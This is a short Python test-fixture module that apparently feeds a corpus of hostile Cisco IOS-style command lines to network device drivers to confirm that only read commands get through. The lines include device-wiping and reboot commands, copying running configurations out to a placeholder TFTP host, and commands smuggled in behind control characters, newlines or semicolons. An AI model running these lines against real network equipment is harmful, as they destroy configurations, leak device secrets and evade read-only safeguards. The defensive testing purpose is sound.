"""The attack corpus of lines, sent through the methods of every driver whose sessions have a wire."""

from __future__ import annotations

LINES = [
    "reload",
    "relo",
    "wr er",
    "write erase",
    "erase startup-config",
    "clear counters",
    "configure replace flash:evil force",
    "configure memory",
    "copy tftp://192.0.2.9/evil running-config",
    "copy running-config tftp://192.0.2.9/loot",
    "show running-config | redirect tftp://192.0.2.9/loot",
    "show running-config | append flash:loot",
    "show run | inc x|tee flash:loot",
    "show version ; reload",
    "show version\nconfigure terminal\nhostname PWNED\nend",
    "show version\rconfigure terminal\rhostname PWNED\rend",
    "show version\x03reload",
    "sh\x08\x08reload",
    "show version\x15reload",
    "show vers\treload",
    "\x1areload",
    "tclsh",
    "do reload",
    "do-exec reload",
    "enable 15",
    "delete flash:vlan.dat",
    "debug all",
    "terminal shell",
    "more nvram:startup-config",
    "telnet 192.0.2.9",
    "ssh -l root 192.0.2.9",
    "test crash",
    "send * hello",
    "exit",
    "\u202eshow version",
]
"""Lines that are no reads; each goes through every method that takes a command."""

CONFIG_LINES = ["do reload", "do wr er", "do-exec relo", "alias exec sh reload", "privilege exec level 0 reload",
                "event manager applet x", "kron policy-list x", "reload", "write erase", "macro name x"]  # fmt: skip
"""Lines that do harm from within configuration mode."""
